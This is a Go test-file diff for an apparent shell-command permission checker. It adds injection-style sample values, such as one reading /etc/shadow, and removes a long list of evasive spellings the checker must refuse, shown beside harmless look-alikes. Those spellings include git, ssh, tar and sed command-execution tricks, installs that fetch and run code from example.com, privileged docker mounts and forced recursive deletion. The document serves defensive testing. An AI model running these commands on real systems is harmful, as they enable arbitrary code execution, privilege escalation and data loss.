@@ -41,6 +41,17 @@ var samples = map[string]string{
 	"host-mount":      "/etc:/x",
 	"host-network":    "host",
 	"set-uid":         "u+s",
+	"any":             "sudo id",
+	"pipe":            "|id",
+	"not-file":        "puts 1",
+	"compiler":        "=id",
+	"rust-linker":     "linker=id",
+	"go-setting":      "CC=id",
+	"maven-exec":      "org.codehaus.mojo:exec-maven-plugin:java",
+	"sbt-code":        "eval 1",
+	"socat-program":   "exec:id",
+	"sqlite-command":  ".sh id",
+	"secret-inside":   `{getline < "/etc/shadow"}`,
 }
 
 func TestSamples(t *testing.T) {
@@ -97,7 +108,9 @@ func (s speller) words(o *grammar.Option, value string) [][]string {
 				spelled = append(spelled, []string{name + "=" + value})
 			}
 		case grammar.Optional:
-			spelled = append(spelled, []string{name})
+			if o.Class == "" {
+				spelled = append(spelled, []string{name})
+			}
 			if !letter {
 				spelled = append(spelled, []string{name + "=" + value})
 			}
@@ -199,7 +212,7 @@ func commands(p *grammar.Program, sub *grammar.Program, o *grammar.Option) (all 
 	if sub != nil {
 		begin = append(begin, sub.Names[0])
 		s.tables = append(s.tables, sub)
-		stops = sub.Stops
+		stops = sub.Stops || sub.Starts > 0
 	}
 	value := samples[o.Class]
 	for _, words := range s.words(o, value) {
@@ -221,6 +234,9 @@ func commands(p *grammar.Program, sub *grammar.Program, o *grammar.Option) (all 
 			for _, v := range table.Options {
 				if v.Kind == grammar.Value && v.Arity == grammar.Required && (table == sub || !p.Alone) {
 					add(v.Name, "value")
+					if o.Name == "*" {
+						all = append(all, slices.Concat(begin, []string{v.Name, value}))
+					}
 				}
 			}
 		}
@@ -271,274 +287,4 @@ func TestSpellings(t *testing.T) {
 		}
 	}
 	t.Logf("%d options in %d spellings", options, spellings)
-}
-
-// TestOtherSpellings holds that ways around the whole name of an option do not pass, and that what
-// looks like them does. Nothing is derived from the table here.
-func TestOtherSpellings(t *testing.T) {
-	t.Parallel()
-	for text, want := range map[string]bool{attacks: true, lookAlikes: false} {
-		for line := range strings.Lines(text) {
-			words := strings.Split(strings.TrimSpace(line), " ")
-			for i, w := range words {
-				words[i] = strings.ReplaceAll(w, "_._", " ")
-			}
-			if words[0] != "" && refused(&Options{Programs: []string{words[0], "ls"}}, array(words)) != want {
-				t.Errorf("%q: refused is %t", words, !want)
-			}
-		}
-	}
-}
-
-// A blank within a word is written _._ here.
-const attacks = `
-	git clone --config=core.sshCommand=id x
-	git clone -ccore.sshCommand=id x
-	git clone --conf core.sshCommand=id x
-	git clone -qc core.fsmonitor=id x
-	git clone --upload-pac=id x
-	git clone -uid x
-	git clone --templ=/x y
-	git -C d clone --upload-pac id x
-	git --git-dir d fetch --upload-p=id
-	git push --receive-p=id origin
-	git push --forc
-	git push -qf
-	git push -uf origin main
-	git rebase -xid main
-	git rebase --exe=id
-	git grep -Oid x
-	git grep --open-files=id x
-	git clean -xdf
-	git clean --forc -x
-	git ls-remote --upl id x
-	git difftool -yxid
-	git submodule -q foreach id
-	git remote-ext x sh
-	git remote add x ext::sh_._-c_._id
-	node --require=./x a.js
-	node -r ./x a.js
-	node -r./x a.js
-	node --experimental_loader=./x a.js
-	node --import=data:text/javascript,1 a.js
-	node --check -e 1
-	node --eval=1
-	zip -TT sh a b
-	zip -TTsh a b
-	zip -qrTT sh a b
-	zip -T --unzip-comm=sh a b
-	tar cfI a.tgz id b
-	tar xf a --checkpoint-act=exec=id
-	tar xf a --use-comp id
-	tar -xvzfa.tgz --to-comm id
-	tar -c -v -Iid -f a b
-	rsync -avesh a b:
-	rsync -av --rsh=sh_._-c_._id a b:
-	rsync -e=sh a b:
-	sort --compress-prog=id a
-	split --filt=id a
-	sed --express=1e_._id a
-	sed -ne1e_._id a
-	sed -nf x a
-	sed --fil=x a
-	awk -vx=1 -fx a
-	find . -name x -execdir id ;
-	find -- . -delete
-	less +!id a
-	less ++!id a
-	vim +!id a
-	vim -c!id a
-	vim --cm !id
-	emacs -batch --ev=1
-	emacs --batch -exec 1
-	man -Hid ls
-	man --html=id ls
-	man -Pid ls
-	ssh -vo ProxyCommand=id h
-	ssh -4oProxyCommand=id h
-	ssh -vFx h
-	ssh h -oProxyCommand=id
-	scp -qoProxyCommand=id a h:
-	curl -sKx
-	curl --conf x
-	curl -so /etc/cron.d/x https://example.com
-	wget -qex=y https://example.com
-	wget --exec=x=y https://example.com
-	python3 -W ignore -c 1
-	python3 -Wignore -Ic1
-	python3 -bc1
-	perl -lne 1
-	perl -Mx -e1
-	perl -i -pe 1
-	ruby -ne1
-	php -ddisable_functions= a.php
-	php -nr 1
-	php --def auto_prepend_file=x a.php
-	openssl --engine x
-	sqlite3 --cmd .x a.db
-	sqlite3 -init x a.db
-	gdb --ex=x
-	gdb --eval-comm=x
-	mysql --init_command=x
-	mysql --pag=id
-	java -javaagent:x.jar A
-	java -XX:OnError=id A
-	java @x
-	gcc @x
-	gcc -fplugin=x.so a.c
-	go build --toolexec=id
-	go test -exec id
-	go vet -vettool=./x
-	go build -ldflags=-extld=./x
-	make -Ea
-	make --ev=x
-	make SHELL=x
-	make -f/tmp/x
-	npm --script-sh=x run a
-	npm -script-shell x run a
-	npm --node-opt=x run a
-	bash +O extglob -c sudo_._id
-	make -j SHELL=x
-	env -a ls sudo id
-	docker -l exec x
-	perl -0777ne 1
-	perl -w -I lib -e 1
-	ruby -C d -ne 1
-	npm exe x
-	npm x cowsay
-	npm publ
-	docker run --privileged=true x
-	docker -Hx ps
-	docker run -v/:/x y
-	docker run -itv /:/x y
-	docker run --mount=type=bind,source=/,target=/x y
-	kubectl --kubeconfig=x get pods
-	pip install --global-opt=x y
-	pip install -qi http://x y
-	systemctl -qHx status
-	pwsh -Comm sudo_._id
-	pwsh /c sudo id
-	pwsh -NoProfile -enc eA==
-	powershell –Command sudo_._id
-	cmd /csudo id
-	bash -xc sudo_._id
-	fish -C ls -c sudo_._id
-	watch -n 5 sudo id
-	flock -w 5 f -c sudo_._id
-	su -c sudo_._id x
-	env -iSls
-	npm install http://example.com/x.tgz
-	npm i git+ssh://git@example.com/x.git
-	npm add github:a/b
-	npm i a/b#main
-	npm i /tmp/x.tgz
-	pip install /tmp/x
-	npm inst x@git+https://example.com/x
-	npm --prefix d install x@https://example.com/x.tgz
-	npx https://example.com/x.tgz
-	npx -y github:a/b
-	npx --package=git+https://example.com/x y
-	pnpm dlx https://example.com/x
-	yarn add git+https://example.com/x
-	bunx github:a/b
-	pip install git+https://example.com/x
-	pip install http://example.com/x.whl
-	pip install x_._@_._https://example.com/x.whl
-	pip install -rhttps://example.com/x
-	pip install -qe git+https://example.com/x
-	python3 -mpip install git+https://example.com/x
-	python3 -m pip install http://example.com/x
-	python3 -I -m pip --quiet install -r https://example.com/x
-	python3 -m timeit 1
-	python3 -m python -m python -m python -m python -m python -m python -m python -m python -m python -c 1
-	pipx run --spec=git+https://example.com/x x
-	uv pip install git+https://example.com/x
-	uvx --from git+https://example.com/x y
-	go run example.com/x@latest
-	go run -race example.com/x@v1.0.0 -v
-	go install example.com/x@latest
-	cargo install --git https://example.com/x
-	cargo install --git=https://example.com/x
-	gem install https://example.com/x.gem
-	gem install -s http://example.com x
-	deno run -A https://example.com/x.ts
-	kubectl apply -f https://example.com/x.yaml
-	brew install https://example.com/x.rb
-	rpm -i http://example.com/x.rpm
-	apt-get -y -oDir::Etc=x update
-	git --exec-path=/x log
-	ip -b x
-	rm -r --force .
-	rm --recurs .`
-
-const lookAlikes = `
-	git clone --branch=main --depth=1 x
-	git clone -bmain -c user.name=x y
-	git commit -c HEAD
-	git commit -m --force
-	git commit -amx
-	git push --follow-tags -u origin main
-	git log --exclude=x --extended-regexp
-	git log --grep exec
-	git clean -nxdf
-	git clean --dry-run -f
-	git fetch --unshallow -p
-	git diff --exit-code
-	git -C d -c core.sshCommand=ssh fetch
-	node --test a.js -r x
-	node a.js -e 1
-	node --check a.js
-	python3 a.py -c x
-	ruby -w a.rb -e x
-	perl -Ilib a.pl -e x
-	php -n a.php -r x
-	npm i file:../x
-	nix run path:.
-	python3 -u -m pytest -c x
-	python3 -m pip install x==1.0
-	zip -r -T a b
-	tar -xzfI.tar
-	tar xzf a.tgz --checkpoint=10
-	rsync -avz -e ssh a b:
-	rsync -avz --exclude=e a b:
-	find . -name -delete.txt
-	less +G a
-	less +/x a
-	vim +12 a
-	sed -n -e s/one/we/gp a
-	sort -t, -k2 --check a
-	make -j4 -C d test
-	npm i -g x
-	npm install x@1.2 @a/b ./c
-	npm run build -- --script
-	npm s git
-	npx -y @a/b@latest -c x
-	pip install -r requirements.txt x[y]>=1
-	go run . user@example.com
-	go run ./x -exec y
-	go install ./...
-	go build -ldflags=-s_._-w ./...
-	go get example.com/x@latest
-	cargo install --locked x
-	gem install x
-	docker run --rm -it -p 80:80 -v ./a:/b x
-	kubectl -n x apply -f a.yaml
-	curl -fsSLo a https://example.com
-	curl -H a:@b https://example.com
-	ssh -p22 -i k h
-	java -jar a.jar -agentlib:x
-	bash a.sh -c x
-	ip -br a
-	fish -C ls -c ls_._-l
-	flock -n f ls -l
-	watch -dn5 ls
-	timeout --kill-after=5 -sKILL 10 ls
-	rm -r a/b`
-
-func array(words []string) []any {
-	elements := make([]any, len(words))
-	for i, w := range words {
-		elements[i] = w
-	}
-	return elements
 }
